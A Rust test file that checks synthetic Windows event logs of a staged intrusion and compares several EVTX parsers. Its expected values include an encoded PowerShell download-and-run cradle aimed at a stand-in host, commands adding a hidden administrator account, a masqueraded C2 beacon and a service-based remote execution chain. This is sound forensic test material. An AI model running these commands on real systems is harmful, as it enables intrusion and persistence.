//! The example logs: what is in them, and that other readers see the same.
//!
//! `UPDATE_EXAMPLES=1 cargo test example_logs` writes `examples/logs` anew.

// The helpers here are parts of tests without being tests themselves.
#![allow(clippy::unwrap_used)]

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};
use std::process::Command;

use evtx::{EvtxParser, ParserSettings};
use serde_json::Value as Json;
use trailhound::event_log_writer::scene::write_scene;

fn examples() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/logs")
}

fn example(name: &str) -> PathBuf {
    examples().join(name)
}

const FILES: [&str; 6] = [
    "WKS-FIN-07_Security.evtx",
    "WKS-FIN-07_Sysmon.evtx",
    "WKS-FIN-07_System.evtx",
    "WKS-DEV-02_Security.evtx",
    "ForwardedEvents.evtx",
    "SRV-APP-01_Security.evtx",
];

/// Every record of a log; panics at an error or a wrong checksum.
#[track_caller]
fn read(path: &Path) -> Vec<Json> {
    let settings = ParserSettings::new().validate_checksums(true);
    let mut parser = EvtxParser::from_path(path).unwrap().with_configuration(settings);
    parser.records_json_value().map(|record| record.unwrap().data["Event"].take()).collect()
}

/// A value as text, whether the reader made a number of it or not.
fn text(value: &Json) -> String {
    match value {
        Json::String(text) => text.clone(),
        Json::Null => String::new(),
        other => other.to_string(),
    }
}

fn event_id(event: &Json) -> String {
    let id = &event["System"]["EventID"];
    text(id.get("#text").unwrap_or(id))
}

/// New processes of a log: time of day to the second, parent's image, image, command line.
fn creations(name: &str) -> Vec<[String; 4]> {
    let names = |event: &Json| match event_id(event).as_str() {
        "4688" => Some(["ParentProcessName", "NewProcessName"]),
        "1" => Some(["ParentImage", "Image"]),
        _ => None,
    };
    read(&example(name))
        .iter()
        .filter_map(|event| {
            let [parent, image] = names(event)?;
            let data = &event["EventData"];
            let time = text(&event["System"]["TimeCreated"]["#attributes"]["SystemTime"]);
            let line = text(&data["CommandLine"]);
            Some([time[11..19].to_owned(), text(&data[parent]), text(&data[image]), line])
        })
        .collect()
}

#[test]
fn example_logs_are_current() {
    let directory = tempfile::tempdir().unwrap();
    let paths = write_scene(directory.path()).unwrap();
    let names: Vec<_> = paths.iter().map(|path| path.file_name().unwrap().to_str().unwrap()).collect();
    assert_eq!(names, FILES);
    let update = std::env::var_os("UPDATE_EXAMPLES").is_some();
    for (path, name) in paths.iter().zip(FILES) {
        let fresh = std::fs::read(path).unwrap();
        if update {
            std::fs::create_dir_all(examples()).unwrap();
            std::fs::write(example(name), &fresh).unwrap();
        }
        let kept = std::fs::read(example(name)).unwrap_or_default();
        assert!(kept == fresh, "{name} is not what the code writes: run `UPDATE_EXAMPLES=1 cargo test example_logs`");
    }
}

#[test]
fn example_logs_hold_these_events() {
    #[track_caller]
    fn check(name: &str, want: &[(&str, usize)]) {
        let mut counts = BTreeMap::new();
        for event in read(&example(name)) {
            *counts.entry(event_id(&event)).or_insert(0) += 1;
        }
        let counts: Vec<(&str, usize)> = counts.iter().map(|(id, n)| (id.as_str(), *n)).collect();
        assert_eq!(counts, want, "{name}");
    }
    check(
        "WKS-FIN-07_Security.evtx",
        &[("4616", 1), ("4624", 15), ("4663", 3), ("4672", 15), ("4688", 150), ("4689", 112), ("5156", 40)],
    );
    check("WKS-FIN-07_Sysmon.evtx", &[("1", 127), ("5", 112)]);
    check("WKS-FIN-07_System.evtx", &[("7036", 60)]);
    check(
        "WKS-DEV-02_Security.evtx",
        &[("4624", 14), ("4634", 1), ("4672", 13), ("4688", 205), ("4689", 172), ("4719", 1), ("5156", 40)],
    );
    check("ForwardedEvents.evtx", &[("4624", 7), ("4672", 7), ("4688", 62)]);
    check("SRV-APP-01_Security.evtx", &[("1102", 1), ("4624", 1), ("4672", 1), ("4688", 5), ("4689", 5)]);
}

/// The ends of the parent's and the image's paths, which are enough to tell the steps apart.
#[track_caller]
fn has_step(rows: &[[String; 4]], time: &str, parent: &str, image: &str, line: &str) {
    let found = rows
        .iter()
        .filter(|row| row[0] == time && row[1].ends_with(parent) && row[2].ends_with(image) && row[3] == line);
    assert_eq!(found.count(), 1, "{time} {parent} -> {image}: {line}");
}

const ENCODED: &str = "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALgBjAG8AbgB0AG8AcwBvAC0AdQBwAGQAYQB0AGUAcwAuAGUAeABhAG0AcABsAGUALwBtAGEAeQAvAHIAZQBhAGQAbQBlAC4AdAB4AHQAJwApAA==";

#[test]
fn the_intrusion_is_in_both_logs_of_the_first_host() {
    let user = "net user Supp0rt LetsDefendEventLogs /add";
    let group = "net localgroup administrators Supp0rt /add";
    let word = r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\m.keller\Downloads\Invoice_2024-05.docm" /o """#;
    let temp =
        r#""C:\Users\m.keller\AppData\Local\Temp\sysinfo64.exe" -q -o C:\Users\m.keller\AppData\Local\Temp\s.dat"#;
    let roaming = r#""C:\Users\m.keller\AppData\Roaming\OneDriveSync\svch0st.exe" -c gate.contoso-updates.example:443"#;
    for name in ["WKS-FIN-07_Security.evtx", "WKS-FIN-07_Sysmon.evtx"] {
        let rows = creations(name);
        has_step(&rows, "10:42:13", "explorer.exe", "WINWORD.EXE", word);
        has_step(&rows, "10:42:31", "WINWORD.EXE", "powershell.exe", ENCODED);
        has_step(&rows, "10:43:02", "powershell.exe", "cmd.exe", r"C:\Windows\system32\cmd.exe");
        has_step(&rows, "10:44:10", "cmd.exe", "net.exe", user);
        let net1 = format!(r"C:\Windows\system32\net1{}", &user[3..]);
        has_step(&rows, "10:44:10", "net.exe", "net1.exe", &net1);
        has_step(&rows, "10:44:38", "cmd.exe", "net.exe", group);
        has_step(&rows, "10:47:55", "powershell.exe", "sysinfo64.exe", temp);
        has_step(&rows, "10:52:41", "powershell.exe", "svch0st.exe", roaming);
        let shell = r#""C:\Windows\system32\cmd.exe" "#;
        has_step(&rows, "13:38:15", "explorer.exe", "cmd.exe", shell);
        has_step(&rows, "13:38:40", "cmd.exe", "whoami.exe", "whoami  /priv");
    }
}

#[test]
fn the_second_host_has_the_steps_without_command_lines() {
    let rows = creations("WKS-DEV-02_Security.evtx");
    has_step(&rows, "14:41:00", "WmiPrvSE.exe", "cmd.exe", "");
    has_step(&rows, "14:41:01", "cmd.exe", "net.exe", "");
    for row in rows {
        let early = row[0].as_str() < "15:00:00";
        assert_eq!(row[3].is_empty(), early, "{row:?}");
    }
}

#[test]
fn the_server_has_its_steps_in_the_forwarded_log() {
    let rows = creations("ForwardedEvents.evtx");
    let output = r"cmd.exe /c whoami > C:\Windows\Temp\w.txt";
    has_step(&rows, "14:05:33", "WmiPrvSE.exe", "cmd.exe", output);
    let service = r"C:\Windows\system32\cmd.exe /Q /c echo whoami ^> C:\Windows\Temp\o.txt 2^>^&1 > C:\Windows\Temp\run.bat & C:\Windows\system32\cmd.exe /Q /c C:\Windows\Temp\run.bat & del C:\Windows\Temp\run.bat";
    has_step(&rows, "14:17:41", "services.exe", "cmd.exe", service);
    let user = "net user Supp0rt LetsDefendEventLogs /add";
    has_step(&rows, "14:27:02", "cmd.exe", "net.exe", user);
    has_step(&rows, "15:48:25", "cmd.exe", "net.exe", "net stop WinRM");
    let first = &read(&example("SRV-APP-01_Security.evtx"))[0];
    assert_eq!(event_id(first), "1102", "the cleared log begins with that");
}

/// Programs that run from users' folders or from Temp: the intruder's and one installer.
#[test]
fn the_ordinary_day_runs_nothing_odd_but_an_installer() {
    let mut odd = Vec::new();
    for name in FILES {
        for [time, _, image, _] in creations(name) {
            if image.contains(r"\Users\") || image.contains(r"\Temp\") {
                odd.push(format!("{time} {}", image.rsplit('\\').next().unwrap_or_default()));
            }
        }
    }
    odd.sort();
    odd.dedup();
    assert_eq!(
        odd,
        [
            "09:12:02 Git-2.45.0-64-bit.exe",
            "09:12:05 Git-2.45.0-64-bit.tmp",
            "10:47:55 sysinfo64.exe",
            "10:52:41 svch0st.exe",
            "14:26:05 psvc.exe",
        ]
    );
}

/// Event record id and named values of each event, out of the XML that a reader prints.
fn events_of_xml(xml: &str) -> Vec<(String, Vec<(String, String)>)> {
    let unescape = |text: &str| {
        let text = text.replace("&lt;", "<").replace("&gt;", ">");
        let text = text.replace("&quot;", "\"").replace("&apos;", "'");
        // Carriage returns do not survive every reader's printing; no value depends on them.
        let text = text.replace("&#13;", "").replace("&#174;", "®");
        text.replace("&amp;", "&").replace('\r', "")
    };
    let between = |text: &str, open: &str, close: &str| {
        let start = text.find(open)? + open.len();
        let end = start + text[start..].find(close)?;
        Some(text[start..end].to_owned())
    };
    let events = xml.split("<Event ").skip(1);
    events
        .map(|event| {
            let id = between(event, "<EventRecordID>", "</EventRecordID>").unwrap_or_default();
            let data = event.split("<Data Name=\"").skip(1).map(|part| {
                let name = part.split('"').next().unwrap_or_default().to_owned();
                let rest = &part[name.len() + 1..];
                let value = match rest.strip_prefix('>') {
                    Some(rest) => rest.split("</Data>").next().unwrap_or_default(),
                    None => "", // <Data Name="…"/>
                };
                (name, unescape(value))
            });
            (id, data.collect())
        })
        .collect()
}

/// Readers print hex with or without zeros, GUIDs in either case, and times to the microsecond.
fn means_the_same(ours: &str, theirs: &str) -> bool {
    let hex = |text: &str| u64::from_str_radix(text.strip_prefix("0x")?, 16).ok();
    let moment = |text: &str| text.get(..19).map(|text| text.replace('T', " "));
    ours == theirs
        || ours.starts_with('{') && ours.eq_ignore_ascii_case(theirs)
        || hex(ours).is_some() && hex(ours) == hex(theirs)
        || ours.ends_with('Z') && moment(ours) == moment(theirs)
}

/// Compares what another reader prints of a log with what the `evtx` crate reads, value by value.
#[track_caller]
fn compare(reader: &str, name: &str, xml: &str) {
    let theirs = events_of_xml(xml);
    let ours = read(&example(name));
    assert_eq!(theirs.len(), ours.len(), "{reader}: {name}");
    let mut compared = 0;
    for (event, (record_id, fields)) in ours.iter().zip(theirs) {
        assert_eq!(text(&event["System"]["EventRecordID"]), record_id, "{reader}: {name}");
        let data = event["EventData"].as_object();
        let named = data.map_or(0, |data| data.keys().filter(|key| *key != "Binary").count());
        assert_eq!(named, fields.len(), "{reader}: {name}, record {record_id}");
        for (field, value) in fields {
            let mine = text(&event["EventData"][&*field]).replace('\r', "");
            assert!(means_the_same(&mine, &value), "{reader}: {name}, record {record_id}, {field}: {mine:?} {value:?}");
            compared += 1;
        }
    }
    println!("{reader}: {name}: {} records, {compared} values the same", ours.len());
}

/// What a command prints, None where it cannot be run.
fn output_of(program: &str, arguments: &[&str]) -> Option<String> {
    let output = Command::new(program).args(arguments).env("PYTHONIOENCODING", "utf-8").output().ok()?;
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    output.status.success().then_some(text)
}

/// Logs whose records have templates. Older readers do not know others: python-evtx and libevtx of
/// 2018 stop at the same place in forwarded logs that Windows wrote.
fn with_templates() -> impl Iterator<Item = &'static str> {
    FILES.into_iter().filter(|name| *name != "ForwardedEvents.evtx")
}

#[test]
fn python_evtx_reads_the_same() {
    if output_of("python3", &["-c", "import Evtx"]).is_none() {
        println!("skipped: python-evtx is not installed");
        return;
    }
    let script = "
import sys
from Evtx.Evtx import Evtx
with Evtx(sys.argv[1]) as log:
    assert log.get_file_header().verify()
    for chunk in log.chunks():
        assert chunk.verify()
        for record in chunk.records():
            print(record.xml())
";
    for name in with_templates() {
        let path = example(name);
        let xml = output_of("python3", &["-c", script, path.to_str().unwrap()]);
        compare("python-evtx", name, &xml.expect("python-evtx reads the log"));
    }
}

#[test]
fn libevtx_reads_the_same() {
    if output_of("python3", &["-c", "import pyevtx"]).is_none() {
        println!("skipped: libevtx's Python module is not installed");
        return;
    }
    let script = "
import sys, pyevtx
log = pyevtx.file()
log.open(sys.argv[1])
assert not log.is_corrupted()
assert log.number_of_recovered_records == 0
for record in log.records:
    print(record.xml_string)
";
    for name in FILES {
        let path = example(name);
        let xml = output_of("python3", &["-c", script, path.to_str().unwrap()]);
        compare("libevtx", name, &xml.expect("libevtx reads the log"));
    }
}

#[test]
fn evtxexport_reads_the_same() {
    if output_of("evtxexport", &["-V"]).is_none() {
        println!("skipped: evtxexport is not installed");
        return;
    }
    for name in with_templates() {
        let path = example(name);
        let xml = output_of("evtxexport", &["-f", "xml", path.to_str().unwrap()]);
        compare("evtxexport", name, &xml.expect("evtxexport reads the log"));
    }
}

/// The image of the process behind each parent's id is the one that the event names.
#[test]
fn parents_are_processes_that_live() {
    for name in ["WKS-FIN-07_Security.evtx", "WKS-DEV-02_Security.evtx"] {
        let mut living: HashMap<String, String> = HashMap::new();
        let mut again = 0;
        let mut ids = std::collections::HashSet::new();
        for event in read(&example(name)) {
            let data = &event["EventData"];
            match event_id(&event).as_str() {
                "4688" => {
                    let parent = living.get(&text(&data["ProcessId"]));
                    let parent = parent.map_or("", String::as_str);
                    assert_eq!(parent, text(&data["ParentProcessName"]), "{name} {data}");
                    let id = text(&data["NewProcessId"]);
                    again += usize::from(!ids.insert(id.clone()));
                    let image = text(&data["NewProcessName"]);
                    assert_eq!(living.insert(id, image), None, "{name}: id in use");
                }
                "4689" => {
                    let ended = living.remove(&text(&data["ProcessId"]));
                    assert_eq!(ended, Some(text(&data["ProcessName"])), "{name}");
                }
                _ => {}
            }
        }
        assert!(again > 20, "{name}: {again} ids used again");
    }
}
